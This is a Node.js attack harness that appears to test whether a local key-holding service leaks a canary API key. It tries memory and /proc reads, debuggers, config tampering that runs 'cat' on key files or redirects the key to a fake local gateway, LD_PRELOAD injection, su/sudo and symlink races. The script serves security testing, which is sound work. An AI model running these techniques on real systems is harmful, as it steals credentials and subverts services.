// Runs as the owner, with everything that the owner has, and looks for a key by every way it knows.
//
//   node attacker.mjs PID PORT TOKEN SOCKET FOLDER
//
// Each way prints one JSON line: its name, and whether it saw the key. It knows how the key begins, which an attacker would not.
import { spawnSync } from "node:child_process";
import * as fs from "node:fs";
import http from "node:http";
import net from "node:net";
import { homedir } from "node:os";
import { join } from "node:path";

const [pid, port, token, socket, keybearer] = process.argv.slice(2);
const CANARY = "sk-CANARY-";
const SYSTEM = [
  "/etc/keybearer",
  "/var/lib/keybearer",
  "/run/keybearer",
  "/run/credentials",
  "/etc/credstore.encrypted",
  "/var/lib/keybearer.new",
  "/etc/keybearer.new",
];

/** What a program prints, whether it succeeds or not. */
function output(program, ...args) {
  const ended = spawnSync(program, args, {
    encoding: "latin1",
    timeout: 20_000,
    maxBuffer: 64 * 1024 * 1024,
    stdio: ["ignore", "pipe", "pipe"],
  });
  return `${ended.stdout ?? ""}${ended.stderr ?? ""}`;
}

/** O_NONBLOCK: opening a pipe would wait for its other end. */
function text(path) {
  const handle = fs.openSync(path, fs.constants.O_RDONLY | fs.constants.O_NONBLOCK);
  try {
    const found = fs.fstatSync(handle);
    if (!found.isFile() || found.size > 64 * 1024 * 1024) return "";
    return fs.readFileSync(handle, "latin1");
  } finally {
    fs.closeSync(handle);
  }
}

/** Everything below a folder that can be read. */
function below(folder, depth = 6) {
  let found = "";
  for (const entry of fs.readdirSync(folder, { withFileTypes: true })) {
    const path = join(folder, entry.name);
    try {
      if (entry.isDirectory() && depth > 0) found += below(path, depth - 1);
      else if (entry.isFile() || entry.isSymbolicLink()) found += text(path);
    } catch {
      // Not readable.
    }
  }
  return found;
}

function attempt(...tries) {
  let seen = "";
  for (const one of tries) {
    try {
      seen += one() ?? "";
    } catch {
      // The way is closed.
    }
  }
  return seen;
}

function ask(options, body) {
  return new Promise((resolve) => {
    const request = http.request({ agent: false, timeout: 8000, ...options }, (response) => {
      let answer = JSON.stringify(response.headers);
      response.setEncoding("latin1");
      response.on("data", (data) => {
        answer += data;
        if (answer.length > 4_000_000) request.destroy();
      });
      response.on("close", () => resolve(`${response.statusCode} ${answer}`));
    });
    const late = setTimeout(() => request.destroy(), 6000);
    request.on("close", () => clearTimeout(late));
    request.on("timeout", () => request.destroy());
    request.on("error", () => resolve(""));
    request.end(body);
  });
}

const control = (method, path, body, at = socket) =>
  ask({ socketPath: at, method, path }, method === "POST" ? JSON.stringify(body ?? {}) : undefined);
const data = (path, headers = {}, method = "GET") =>
  ask({ host: "127.0.0.1", port, path, method, headers: { authorization: `Bearer ${token}`, ...headers } });

/** A gateway of the attacker's own, which keeps what it is sent. */
async function fakeGateway() {
  let seen = "";
  const server = net.createServer((connection) =>
    connection.on("data", (bytes) => {
      seen += bytes.toString("latin1");
      connection.end("HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}");
    }),
  );
  server.on("error", () => {});
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    origin: `http://127.0.0.1:${server.address().port}`,
    seen: () => seen,
    close: () => server.close(),
  };
}

/** Tries to have config.yaml say something else, and then to have the key sent or shown. */
async function withConfig(change) {
  const gateway = await fakeGateway();
  const shown = await control("GET", "/config");
  const config = /"text":"((?:[^"\\]|\\.)*)"/.exec(shown)?.[1];
  let seen = shown;
  if (config !== undefined) {
    const before = JSON.parse(`"${config}"`);
    const { createHash } = await import("node:crypto");
    const digest = createHash("sha256").update(before).digest("hex");
    seen += await control("POST", "/config", { before: digest, text: change(before, gateway.origin) });
  }
  for (const file of [join(SYSTEM[0], "config.yaml"), join(keybearer, "config.yaml")])
    attempt(() => fs.writeFileSync(file, change(text(file), gateway.origin)));
  await new Promise((resolve) => setTimeout(resolve, 1500));
  seen += await data("/v1/models");
  gateway.close();
  return seen + gateway.seen();
}

const proc = `/proc/${pid}`;
const WAYS = {
  "the key files": () =>
    attempt(
      () => below(join(keybearer, "keys")),
      () => text("/var/lib/keybearer/keys/codex"),
      () => below("/var/lib/keybearer"),
    ),
  "every file of the system service": () => attempt(...SYSTEM.map((folder) => () => below(folder))),
  "files of others in /tmp, /var/tmp, /run and /dev/shm": () =>
    attempt(
      () => below("/tmp"),
      () => below("/var/tmp"),
      () => below("/run", 3),
      () => below("/dev/shm"),
    ),
  "the owner's home": () => attempt(() => below(homedir())),
  "/proc/PID/mem": () =>
    attempt(() => {
      const handle = fs.openSync(`${proc}/mem`, "r");
      for (const line of text(`${proc}/maps`).split("\n")) {
        const range = /^([\da-f]+)-([\da-f]+) rw/.exec(line);
        if (range === null) continue;
        const from = Number.parseInt(range[1], 16);
        const bytes = Buffer.alloc(Math.min(Number.parseInt(range[2], 16) - from, 64 * 1024 * 1024));
        try {
          fs.readSync(handle, bytes, 0, bytes.length, from);
        } catch {
          continue;
        }
        if (bytes.includes(CANARY)) return CANARY;
      }
      return "";
    }),
  "/proc/PID/environ": () => attempt(() => text(`${proc}/environ`)),
  "/proc/PID/cmdline of every process": () =>
    attempt(
      ...fs
        .readdirSync("/proc")
        .filter((name) => /^\d+$/.test(name))
        .map((name) => () => text(`/proc/${name}/cmdline`)),
    ),
  "/proc/PID/fd": () => attempt(() => below(`${proc}/fd`, 0)),
  "/proc/PID/maps and map_files": () =>
    attempt(
      () => text(`${proc}/maps`),
      () => below(`${proc}/map_files`, 0),
    ),
  "/proc/PID/root and cwd": () =>
    attempt(
      () => below(`${proc}/root/var/lib/keybearer`),
      () => below(`${proc}/cwd`, 1),
    ),
  "/proc/PID/stack, syscall and io": () =>
    attempt(
      () => text(`${proc}/stack`),
      () => text(`${proc}/syscall`),
      () => text(`${proc}/io`),
    ),
  gdb: () => {
    const core = `/tmp/attack-core-${process.pid}`;
    output("gdb", "-p", pid, "-batch", "-ex", `gcore ${core}`);
    return attempt(() => text(core));
  },
  strace: () =>
    output("timeout", "4", "strace", "-f", "-s", "4096", "-e", "trace=read,write,sendto,writev", "-p", pid),
  "the debugger by SIGUSR1": async () => {
    attempt(() => {
      process.kill(Number(pid), "SIGUSR1");
    });
    return ask({ host: "127.0.0.1", port: 9229, path: "/json" });
  },
  "the sockets of root and of others": async () => {
    let seen = "";
    for (const name of attempt(() => fs.readdirSync("/run/keybearer").join(" "))
      .split(" ")
      .filter(Boolean)) {
      const at = join("/run/keybearer", name);
      if (at !== socket) seen += await control("GET", "/status", undefined, at);
    }
    return seen;
  },
  "everything that the control socket shows": async () => {
    let seen = "";
    for (const path of [
      "/status",
      "/config",
      "/held",
      "/keys",
      "/mirror",
      "/models",
      "/models/codex",
      "/probes",
      "/sessions",
      "/events",
      "/browsers",
      "/confirmations",
    ])
      seen += await control("GET", path);
    return seen;
  },
  "trust, claim, lift and login over the control socket": async () => {
    const gateway = await fakeGateway();
    let seen = await control("POST", "/trust", []);
    seen += await control("POST", "/claim/codex", {
      place: { kind: "file", path: "/var/lib/keybearer/keys/x" },
      origins: [gateway.origin],
    });
    seen += await control("POST", "/lift/codex", { kind: "spend", amount: 1e9, until: null });
    seen += await control("POST", "/login/main", { password: "x" });
    gateway.close();
    return seen + gateway.seen();
  },
  "a fake gateway through base_url": () =>
    withConfig((config, origin) => config.replace(/http:\/\/127\.0\.0\.1:\d+/, origin)),
  "an outbound proxy": () =>
    withConfig((config, origin) =>
      config.replace(/^gateway: (\S+)$/m, `gateways: { main: { base_url: $1, proxy: "${origin}" } }`),
    ),
  ca_file: () =>
    withConfig((config) =>
      config.replace(/^gateway: (\S+)$/m, "gateways: { main: { base_url: $1, ca_file: /tmp/ca.pem } }"),
    ),
  "another owner of a tool, and a tool of one's own with the same key": () =>
    withConfig(
      (config, origin) =>
        `${config}  thief: { key: file:~/keys/codex, gateway: evil }\ngateways: { evil: { base_url: "${origin}/v1" } }\n`,
    ),
  "a command that reads the key": () =>
    withConfig((config) =>
      config.replace(
        /key: [^,}]+/,
        'key: { command: [/bin/sh, -c, "cat /var/lib/keybearer/keys/codex > /tmp/stolen"] }',
      ),
    ).then((seen) => seen + attempt(() => text("/tmp/stolen"))),
  "a notify command": () =>
    withConfig(
      (config) =>
        `${config}notify: { command: [/bin/sh, -c, "cat /var/lib/keybearer/keys/* > /tmp/stolen2"] }\n`,
    ).then((seen) => seen + attempt(() => text("/tmp/stolen2"))),
  "overrides.yaml": () =>
    attempt(
      () => {
        fs.writeFileSync("/var/lib/keybearer/overrides.yaml", "tools: {}");
      },
      () => text("/var/lib/keybearer/overrides.yaml"),
    ),
  "the program's files": () =>
    attempt(
      ...[
        "/opt/keybearer/dist/cli/main.js",
        "/opt/keybearer/package.json",
        process.execPath,
        "/usr/local/lib/keybearer",
        "/usr/local/bin/keybearer",
      ].map((path) => () => {
        fs.accessSync(path, fs.constants.W_OK);
        // It could be changed, so the next start would print every key.
        return CANARY;
      }),
    ),
  "NODE_OPTIONS, LD_PRELOAD and the manager's environment": () => {
    fs.writeFileSync(
      "/tmp/preload.cjs",
      "require('fs').writeFileSync('/tmp/stolen3', require('child_process').execSync('cat /var/lib/keybearer/keys/*'))",
    );
    const said = output(
      "systemctl",
      "set-environment",
      "NODE_OPTIONS=--require=/tmp/preload.cjs",
      "LD_PRELOAD=/tmp/x.so",
    );
    output("systemctl", "restart", "keybearer");
    return said + attempt(() => text("/tmp/stolen3"));
  },
  "drop-ins of the unit": () =>
    attempt(
      ...[
        "/etc/systemd/system/keybearer.service.d",
        "/run/systemd/system/keybearer.service.d",
        "/etc/systemd/system/keybearer-root.socket.d",
      ].map((folder) => () => {
        fs.mkdirSync(folder, { recursive: true });
        fs.writeFileSync(join(folder, "attack.conf"), "");
        return CANARY;
      }),
    ),
  "systemctl kill, edit and a transient unit": () =>
    output("systemctl", "kill", "--signal=SEGV", "keybearer") +
    output("systemd-run", "--uid=keybearer", "--pipe", "--wait", "cat", "/var/lib/keybearer/keys/codex"),
  "links and races in /run and /etc": () =>
    attempt(
      () => {
        fs.renameSync("/run/keybearer", "/run/keybearer.old");
        return CANARY;
      },
      () => {
        fs.symlinkSync("/tmp/fake", "/run/keybearer/0.sock.new");
        return CANARY;
      },
      () => {
        fs.unlinkSync(socket === "" ? "/run/keybearer/0.sock" : "/run/keybearer/0.sock");
        return CANARY;
      },
      () => {
        fs.renameSync("/etc/keybearer", "/etc/keybearer.old");
        return CANARY;
      },
      () => {
        fs.linkSync("/var/lib/keybearer/keys/codex", join(homedir(), "linked"));
        return text(join(homedir(), "linked"));
      },
    ),
  "the private /tmp of the service": () =>
    attempt(
      () => below("/tmp"),
      ...fs
        .readdirSync("/tmp")
        .filter((name) => name.startsWith("systemd-private"))
        .map((name) => () => below(join("/tmp", name))),
    ),
  "the dashboard": async () => {
    const opened = await control("POST", "/open", {});
    const found = /"url":"([^"]+)","code":"([^"]+)"/.exec(opened);
    if (found === null) return opened;
    const at = new URL(found[1]);
    const origin = at.origin;
    const where = { host: "127.0.0.1", port: at.port };
    const json = { "content-type": "application/json", origin };
    let seen = await ask(
      { ...where, method: "POST", path: "/api/session", headers: json },
      JSON.stringify({ code: found[2] }),
    );
    const session = /"token":"([^"]+)"/.exec(seen)?.[1] ?? "";
    for (const path of [
      "/api/now",
      "/api/tools/codex",
      "/api/usage",
      "/api/records",
      "/api/mirror",
      "/api/events",
      "/api/csv",
    ])
      seen += await ask({
        ...where,
        path,
        headers: { authorization: `Bearer ${session}`, "x-keybearer-session": session, origin },
      });
    return seen + opened;
  },
  backups: () =>
    attempt(
      () => below("/var/backups"),
      ...["/etc/keybearer/config.yaml~", "/etc/keybearer/.config.yaml.swp", "/var/lib/keybearer.tgz"].map(
        (path) => () => text(path),
      ),
    ),
  "the journal": () =>
    output("journalctl", "--no-pager", "-n", "500") +
    output("journalctl", "-u", "keybearer", "--no-pager") +
    attempt(() => below("/var/log")),
  "credentials of the service": () =>
    attempt(
      () => below("/run/credentials"),
      () => below("/etc/credstore.encrypted"),
      () => text("/run/credentials/keybearer.service/codex"),
    ),
  "becoming the service's user": () =>
    output("su", "keybearer", "-s", "/bin/sh", "-c", "cat /var/lib/keybearer/keys/*") +
    output("runuser", "-u", "keybearer", "cat", "/var/lib/keybearer/keys/codex") +
    output("sudo", "-n", "cat", "/var/lib/keybearer/keys/codex") +
    output("newgrp", "keybearer"),
  "a user namespace": () =>
    output(
      "unshare",
      "-Urm",
      "sh",
      "-c",
      "cat /var/lib/keybearer/keys/*; mount --bind /var/lib/keybearer /mnt && cat /mnt/keys/*",
    ),
  "DNS and /etc/hosts": () =>
    attempt(
      ...["/etc/hosts", "/etc/resolv.conf", "/etc/nsswitch.conf", "/etc/passwd"].map((path) => () => {
        fs.accessSync(path, fs.constants.W_OK);
        return CANARY;
      }),
    ),
  "a gateway that echoes the key": async () =>
    (await data("/v1/echo")) + (await data("/v1/echo", { accept: "text/event-stream" })),
  "requests that lead elsewhere": async () => {
    const gateway = await fakeGateway();
    const host = gateway.origin.slice("http://".length);
    let seen = await data(`${gateway.origin}/v1/models`);
    seen += await data(`//${host}/v1/models`);
    seen += await data("/v1/models", { host });
    seen += await data("/v1/../../models");
    seen += await data("/v1/models", { "x-forwarded-host": host, forwarded: `host=${host}` });
    gateway.close();
    return seen + gateway.seen();
  },
  "a rotation": async () => {
    const seen = await control("POST", "/rotate/codex", { force: true });
    return (
      seen +
      attempt(
        () => below("/var/lib/keybearer/keys"),
        () => below(join(keybearer, "keys")),
      )
    );
  },
  "files of the service's user anywhere": () =>
    output("find", "/", "-xdev", "-user", "keybearer", "-readable", "-type", "f", "-exec", "cat", "{}", "+"),
  // Last: it ends a keybearer of the same user.
  "a core dump by a signal": () =>
    attempt(
      () => {
        process.kill(Number(pid), "SIGABRT");
      },
      () => below("/var/lib/systemd/coredump"),
      () => text("core"),
    ),
};

process.on("uncaughtException", () => {});
for (const [name, way] of Object.entries(WAYS)) {
  let seen = "";
  try {
    seen = String((await way()) ?? "");
  } catch (error) {
    seen = String(error);
  }
  process.stdout.write(`${JSON.stringify({ name, found: seen.includes(CANARY) })}\n`);
}
process.exit(0);
